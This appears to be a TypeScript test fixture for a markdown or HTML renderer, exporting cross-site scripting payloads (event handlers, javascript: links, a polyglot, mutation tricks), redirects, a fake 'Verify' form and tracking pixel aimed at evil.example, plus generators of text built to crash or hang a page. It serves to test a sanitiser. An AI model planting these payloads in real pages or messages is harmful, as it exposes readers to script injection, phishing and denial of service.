/** Each sets window.planted or requests evil.example if it ever runs or loads. */
export const payloads = [
  '<script>window.planted=1</script>',
  '<img src=x onerror="window.planted=1">',
  '<svg/onload=window.planted=1>',
  '<iframe srcdoc="<script>parent.planted=1</script>"></iframe>',
  '<body onpageshow=window.planted=1>',
  '<details open ontoggle=window.planted=1>',
  '<input autofocus onfocus=window.planted=1>',
  '<math><mtext><style><img src onerror=window.planted=1></style></mtext></math>',
  '<link rel=stylesheet href=//evil.example/a.css>',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<base href=https://evil.example/>',
  '<object data=javascript:window.planted=1></object>',
  '<form action=https://evil.example/><button>Verify</button></form>',
  '<style>@import "//evil.example/a.css";*{display:none}</style>',
  '[click](javascript:window.planted=1)',
  '[click](java&#x09;script:window.planted=1)',
  '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[click](vbscript:msgbox(1))',
  '<javascript:window.planted=1>',
  '[click](//evil.example/a)',
  '![pixel](https://evil.example/pixel.png)',
  '![x](x "onerror=window.planted=1")',
  '[![a](https://evil.example/b.png)](https://evil.example/c)',
  '"><img src=x onerror=window.planted=1>{{constructor.constructor("window.planted=1")()}}',
  'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=window.planted=1 )//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=window.planted=1//>',
]

/** Texts designed to crash a reader's page; cut to a field's maximum. */
export const bombs: Record<string, (length: number) => string> = {
  'nested quotes': (length) => '>'.repeat(length),
  'nested lists': (length) => '- '.repeat(length / 2),
  'lists by indentation': (length) =>
    Array.from({ length: 140 }, (_, depth) => `${' '.repeat(depth * 2)}- a`)
      .join('\n')
      .slice(0, length),
  brackets: (length) => '['.repeat(length),
  'unclosed links': (length) => '[a]('.repeat(length / 4),
  emphasis: (length) => '*_'.repeat(length / 2),
  backticks: (length) => '`'.repeat(length),
  fences: (length) => '```\n'.repeat(length / 4),
  'a wide table': (length) => `|${'a|'.repeat(length / 4 - 4)}\n|${'-|'.repeat(length / 4 - 4)}`,
  'footnotes without end': (length) => `${'[^a]'.repeat(length / 4 - 8)}\n\n[^a]: x`,
  'one endless word': (length) => 'W'.repeat(length),
  'letters under piles of marks': (length) => `Z${'\u0334\u0351'.repeat(length / 2 - 1)}`,
  'line breaks': (length) => `a${'\n'.repeat(length - 2)}b`,
  'code that takes long to colour': (length) => `\`\`\`solidity\n${'/*"'.repeat(length / 3 - 6)}\n\`\`\``,
}

/** The same where a field is one line. */
export const inOneLine = (text: string, length: number) =>
  [...text.replace(/\s+/g, ' ').trim()].slice(0, length).join('')
